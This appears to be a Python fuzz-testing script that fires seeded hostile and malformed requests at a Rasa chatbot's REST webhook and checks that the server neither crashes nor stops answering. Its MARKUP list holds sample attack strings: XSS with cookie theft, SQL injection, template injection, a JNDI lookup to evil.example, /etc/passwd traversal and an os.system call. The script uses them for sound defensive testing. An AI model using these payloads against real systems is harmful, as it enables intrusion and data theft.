"""Hostile messages through the real servers, seeded and reproducible.

Each generated conversation starts like a person would (a question, or a flow: screening,
insurance check, booking, a request for a person) and then sends what a hostile or broken
client would: random Unicode (astral planes, combining marks, right-to-left overrides,
unpaired surrogates), control characters, `/intent{json}` injections (oversized, nested,
mistyped entity values, unknown intents, broken JSON), HTML and script, injection strings,
2,001-character and 50 KB messages, 100 KB bodies, and malformed requests (no sender, a
number for a message, a list for a body, bytes that are not UTF-8).

Every request has an expected status: 200 for a message the REST channel takes (too long:
200 with the kind reply and nothing else), 400 for a malformed request, 413 for a body over
the cap. Any 5xx, a request without an answer or an unexpected status is a failure, and
afterwards the server must still answer a normal question.

    python scripts/fuzz.py --count 10000             # make fuzz: its own servers
    python scripts/fuzz.py --count 500 --seed 7      # the same 500 messages every time
    python scripts/fuzz.py --url http://127.0.0.1:5005 --count 200   # a running server

tests/test_e2e_fuzz.py runs 500 of them in the e2e suite.
"""

from __future__ import annotations

import argparse
import json
import random
import re
import sys
import threading
import time
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Dict, List, Optional, Sequence

import httpx
import yaml

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from channels.limits import MAX_BODY_BYTES, MAX_MESSAGE_CHARS, TOO_LONG  # noqa: E402

DEFAULT_SEED = 16
NORMAL_QUESTION = "how many people are in a group?"

# Code point ranges that break naive text handling.
RANGES = [
    (0x20, 0x7E),  # ASCII
    (0xA0, 0x24F),  # Latin-1 and Latin Extended
    (0x300, 0x36F),  # combining marks
    (0x400, 0x4FF),  # Cyrillic
    (0x590, 0x6FF),  # Hebrew, Arabic (right to left)
    (0x900, 0x97F),  # Devanagari
    (0x200B, 0x200F),  # zero-width and direction marks
    (0x2028, 0x202E),  # line/paragraph separators, bidi overrides
    (0x2066, 0x2069),  # bidi isolates
    (0x4E00, 0x9FFF),  # CJK
    (0xAC00, 0xD7A3),  # Hangul
    (0xD800, 0xDFFF),  # unpaired surrogates (valid JSON escapes, invalid UTF-8)
    (0xE000, 0xF8FF),  # private use
    (0xFE00, 0xFE0F),  # variation selectors
    (0xFFF0, 0xFFFF),  # specials, noncharacters
    (0x1F300, 0x1FAFF),  # emoji
    (0x10000, 0x10FFFF),  # anything astral
]
CONTROLS = [chr(c) for c in [*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0)]]
MARKUP = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(document.cookie)">',
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    '"><iframe src=//evil.example>',
    "<a href='http://evil.example'>click me</a>",
    "&lt;b&gt;&#x3C;script&#x3E;",
    "'; DROP TABLE events; --",
    "1 OR 1=1",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n%x {0} {message} {{crisis.acute_text}}",
    "../../../../etc/passwd",
    "\\u0000 \\x00 %00",
    "[link](javascript:alert(1))",
    "__import__('os').system('id')",
]
OPENERS = [
    ["how many people are in a group?"],
    ["/start_screening", "I agree"],
    ["/check_insurance", "I agree"],
    ["/book_appointment", "I agree"],
    ["/request_human"],
    ["/reschedule_appointment"],
    ["hi"],
]
WEIRD_VALUES: List[Any] = [
    "x" * 100,
    "x" * 5000,
    "",
    None,
    True,
    0,
    -1,
    10**30,
    1.5e308,
    [],
    ["a", {"b": None}],
    {},
    {"nested": {"deeper": {"deepest": ["x"] * 50}}},
    "<script>alert(1)</script>",
    "\u202eevil",
]


@dataclass
class Case:
    kind: str
    sender: str
    expect: int
    payload: Any = None  # sent as JSON when `raw` is None
    raw: Optional[bytes] = None
    stream: bool = False
    too_long: bool = False


@dataclass
class Outcome:
    sent: int = 0
    statuses: Counter = field(default_factory=Counter)
    kinds: Counter = field(default_factory=Counter)
    server_errors: List[str] = field(default_factory=list)  # 5xx or no answer
    unexpected: List[str] = field(default_factory=list)
    seconds: float = 0.0
    lock: threading.Lock = field(default_factory=threading.Lock, repr=False)

    @property
    def ok(self) -> bool:
        return not self.server_errors and not self.unexpected


def _domain() -> Dict[str, List[str]]:
    domain = yaml.safe_load((ROOT / "domain.yml").read_text())
    intents = [i if isinstance(i, str) else next(iter(i)) for i in domain.get("intents", [])]
    entities = [e if isinstance(e, str) else next(iter(e)) for e in domain.get("entities", [])]
    return {"intents": intents, "keys": entities + list(domain.get("slots", {}))}


class Generator:
    """Hostile requests from one seed: the same seed gives the same requests."""

    def __init__(self, seed: int = DEFAULT_SEED):
        self.rng = random.Random(seed)
        self.seed = seed
        self.domain = _domain()

    def unicode_text(self, low: int = 1, high: int = 300) -> str:
        rng = self.rng
        chars = []
        for _ in range(rng.randint(low, high)):
            start, end = rng.choice(RANGES)
            chars.append(chr(rng.randint(start, end)))
        return "".join(chars)

    def control_text(self) -> str:
        rng = self.rng
        words = ["I", "want", "to", "book", "help", "yes", "no", "Jane", "1990"]
        return "".join(
            rng.choice(CONTROLS) if rng.random() < 0.4 else rng.choice(words) + " "
            for _ in range(rng.randint(1, 40))
        )

    def injection(self) -> str:
        rng = self.rng
        intent = rng.choice([*self.domain["intents"], "crisis", "inform", "no_such_intent", ""])
        choice = rng.random()
        if choice < 0.25:
            return '/crisis{"crisis_reason": "' + "x" * rng.randint(65, 2000) + '"}'
        if choice < 0.5:
            entities = {rng.choice(self.domain["keys"]): rng.choice(WEIRD_VALUES)}
            entities[self.unicode_text(1, 10)] = rng.choice(WEIRD_VALUES)
            body = json.dumps(entities, ensure_ascii=rng.random() < 0.5)
            return f"/{intent}{body}"
        if choice < 0.6:
            slot = {"slot": {rng.choice(self.domain["keys"]): rng.choice(WEIRD_VALUES)}}
            return "/inform" + json.dumps(slot)
        broken = [
            "{",
            '{"crisis_reason":}',
            "{'single': 'quotes'}",
            "{}{}",
            "[1,2,3]",
            '{"a": NaN, "b": Infinity}',
            '{"crisis_level": "acute"}@0.99',
            "@@@",
            "{" * 200,
        ]
        return f"/{intent}{rng.choice(broken)}"

    def hostile_message(self) -> tuple:
        """(kind, text) of a message the channel must take (200)."""
        rng = self.rng
        kind = rng.choice(
            ["unicode", "control", "injection", "injection", "markup", "mixed", "boundary"]
        )
        if kind == "unicode":
            return kind, self.unicode_text()
        if kind == "control":
            return kind, self.control_text()
        if kind == "injection":
            return kind, self.injection()
        if kind == "markup":
            return kind, rng.choice(MARKUP)
        if kind == "mixed":
            parts = [rng.choice(MARKUP), self.unicode_text(1, 30), self.control_text()]
            rng.shuffle(parts)
            return kind, " ".join(parts)
        # At the length cap, just over it, or long but under the body cap. One repeated
        # character: random surrogates could pair up in JSON and shorten the text.
        size = rng.choice([MAX_MESSAGE_CHARS, MAX_MESSAGE_CHARS + 1, 20_000, 50_000])
        return kind, rng.choice(["a", "é", "中", "\U0001f600", "<"]) * size

    def malformed(self, sender: str) -> Case:
        rng = self.rng
        text = "hello"
        options = [
            ("no_sender", {"message": text}),
            ("null_sender", {"sender": None, "message": text}),
            ("number_sender", {"sender": 42, "message": text}),
            ("list_sender", {"sender": ["a"], "message": text}),
            ("empty_sender", {"sender": "", "message": text}),
            ("blank_sender", {"sender": "   ", "message": text}),
            ("long_sender", {"sender": "s" * 129, "message": text}),
            ("control_sender", {"sender": "a\x00b\nc", "message": text}),
            ("no_message", {"sender": sender}),
            ("number_message", {"sender": sender, "message": 3.14}),
            ("dict_message", {"sender": sender, "message": {"text": text}}),
            ("list_message", {"sender": sender, "message": [text]}),
            ("null_message", {"sender": sender, "message": None}),
            ("string_metadata", {"sender": sender, "message": text, "metadata": "{}"}),
            ("list_metadata", {"sender": sender, "message": text, "metadata": [1]}),
            ("list_body", [sender, text]),
            ("string_body", text),
            ("number_body", 7),
        ]
        kind, payload = rng.choice(options)
        if rng.random() < 0.15:
            raw = rng.choice(
                [
                    b"{not json",
                    b"",
                    b'{"sender": "x", "message": "\xff\xfe"}',
                    b"\x00" * 64,
                    b'{"sender": "x", "message": "a"',
                ]
            )
            return Case("bad_bytes", sender, 400, raw=raw)
        return Case(kind, sender, 400, payload=payload)

    def conversation(self, number: int, length: int) -> List[Case]:
        rng = self.rng
        sender = f"fuzz{self.seed}-{number}"
        cases = [
            Case("opener", sender, 200, {"sender": sender, "message": m})
            for m in rng.choice(OPENERS)
        ]
        while len(cases) < length:
            roll = rng.random()
            if roll < 0.08:
                cases.append(self.malformed(sender))
            elif roll < 0.12:
                # A 100 KB body: refused before anything reads it.
                message = self.unicode_text(1, 3) * (100 * 1024)
                body = json.dumps({"sender": sender, "message": message}).encode()
                cases.append(Case("100kb_body", sender, 413, raw=body[: 100 * 1024 + 512]))
            else:
                kind, text = self.hostile_message()
                payload: Dict[str, Any] = {"sender": sender, "message": text}
                if rng.random() < 0.1:
                    payload["metadata"] = {"timezone": rng.choice(["Mars/Olympus", "", "../x"])}
                if rng.random() < 0.05:
                    payload["input_channel"] = "socketio"
                size = len(json.dumps(payload).encode())
                expect = 413 if size > MAX_BODY_BYTES else 200
                cases.append(
                    Case(
                        kind,
                        sender,
                        expect,
                        payload,
                        stream=rng.random() < 0.03,
                        too_long=len(text) > MAX_MESSAGE_CHARS,
                    )
                )
        return cases

    def conversations(self, count: int, per_conversation: int = 10) -> List[List[Case]]:
        """About `count` requests, in conversations of `per_conversation`."""
        out, total, number = [], 0, 0
        while total < count:
            length = min(per_conversation, count - total)
            out.append(self.conversation(number, length)[:length])
            total += len(out[-1])
            number += 1
        return out


def send(client: httpx.Client, url: str, case: Case, outcome: Outcome) -> None:
    target = url + ("?stream=true" if case.stream else "")
    label = f"{case.kind} (sender {case.sender})"
    # ASCII JSON (httpx's own would refuse unpaired surrogates instead of escaping them).
    body = case.raw if case.raw is not None else json.dumps(case.payload).encode()
    try:
        answer = client.post(target, content=body, headers={"Content-Type": "application/json"})
    except httpx.HTTPError as exc:
        with outcome.lock:
            outcome.server_errors.append(f"{label}: no answer ({type(exc).__name__})")
        return
    status = answer.status_code
    problem = ""
    if status >= 500:
        problem = f"{label}: HTTP {status}"
    elif status != case.expect:
        problem = f"{label}: HTTP {status}, expected {case.expect}"
    elif (
        case.too_long
        and status == 200
        and answer.json() != [{"recipient_id": case.sender, "text": TOO_LONG}]
    ):
        problem = f"{label}: a too-long message was not refused kindly"
    with outcome.lock:
        outcome.sent += 1
        outcome.statuses[status] += 1
        outcome.kinds[case.kind] += 1
        if status >= 500:
            outcome.server_errors.append(problem)
        elif problem:
            outcome.unexpected.append(problem)


def run(
    rasa_url: str,
    count: int,
    seed: int = DEFAULT_SEED,
    workers: int = 4,
    token: str = "",
) -> Outcome:
    from concurrent.futures import ThreadPoolExecutor

    url = f"{rasa_url}/webhooks/rest/webhook"
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    conversations = Generator(seed).conversations(count)
    outcome = Outcome()
    started = time.monotonic()

    def talk(cases: Sequence[Case]) -> None:
        with httpx.Client(timeout=120, headers=headers) as client:
            for case in cases:  # in order: a conversation is one person
                send(client, url, case, outcome)

    with ThreadPoolExecutor(max_workers=workers) as pool:
        list(pool.map(talk, conversations))
    outcome.seconds = time.monotonic() - started
    return outcome


def still_answers(rasa_url: str, token: str = "") -> bool:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    answer = httpx.post(
        f"{rasa_url}/webhooks/rest/webhook",
        json={"sender": f"fuzz-after-{time.time_ns()}", "message": NORMAL_QUESTION},
        headers=headers,
        timeout=60,
    )
    return answer.status_code == 200 and any(m.get("text") for m in answer.json())


def log_sizes(log_dir: Path) -> Dict[str, int]:
    return {log.name: log.stat().st_size for log in log_dir.glob("*.log")}


def logged_errors(log_dir: Path, since: Optional[Dict[str, int]] = None) -> Counter:
    """What the servers logged as errors after `since` (log sizes): exception types ending a
    traceback and ERROR lines, by logger; never the lines themselves (they may quote text)."""
    found: Counter = Counter()
    for log in sorted(log_dir.glob("*.log")):
        with log.open("rb") as f:
            f.seek((since or {}).get(log.name, 0))
            text = f.read().decode("utf-8", "replace")
        for line in text.splitlines():
            exception = re.match(r"^([\w.]*(?:Error|Exception|Exit))\b", line)
            error = re.search(r"\bERROR\s+([\w.]+)", line)
            if exception:
                found[f"{log.name}: {exception.group(1)}"] += 1
            elif error:
                found[f"{log.name}: ERROR {error.group(1)}"] += 1
    return found


def report(outcome: Outcome, errors: Optional[Counter] = None) -> str:
    lines = [
        f"{outcome.sent} requests in {outcome.seconds:.1f} s; statuses "
        + ", ".join(f"{k}: {v}" for k, v in sorted(outcome.statuses.items())),
        "kinds: " + ", ".join(f"{k} {v}" for k, v in sorted(outcome.kinds.items())),
        f"server errors (5xx or no answer): {len(outcome.server_errors)}",
        f"unexpected statuses: {len(outcome.unexpected)}",
        *("  " + x for x in (outcome.server_errors + outcome.unexpected)[:20]),
    ]
    if errors is not None:
        lines.append(
            "exceptions in the servers' logs: "
            + (", ".join(f"{k} ×{v}" for k, v in errors.items()) or "none")
        )
    return "\n".join(lines)


def main(argv: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--count", type=int, default=10_000)
    parser.add_argument("--seed", type=int, default=DEFAULT_SEED)
    parser.add_argument("--workers", type=int, default=4)
    parser.add_argument("--url", help="a running Rasa server; default: start a fresh stack")
    parser.add_argument("--token", default="", help="REST_CHANNEL_TOKEN of that server")
    args = parser.parse_args(argv)

    if args.url:
        outcome = run(args.url, args.count, args.seed, args.workers, args.token)
        answers = still_answers(args.url, args.token)
        print(report(outcome))
    else:
        import tempfile

        from scripts.stack import Stack, scratch_environment

        with tempfile.TemporaryDirectory(prefix="iop-fuzz-") as state:
            env = scratch_environment(Path(state))
            print("Starting the servers…", file=sys.stderr)
            with Stack(env, log_dir=Path(state) / "log") as stack:
                token = env.get("REST_CHANNEL_TOKEN", "")
                outcome = run(stack.rasa_url, args.count, args.seed, args.workers, token)
                answers = still_answers(stack.rasa_url, token)
                print(report(outcome, logged_errors(stack.log_dir)))
    print(f"a normal question afterwards: {'answered' if answers else 'NOT ANSWERED'}")
    return 0 if outcome.ok and answers else 1


if __name__ == "__main__":
    raise SystemExit(main())
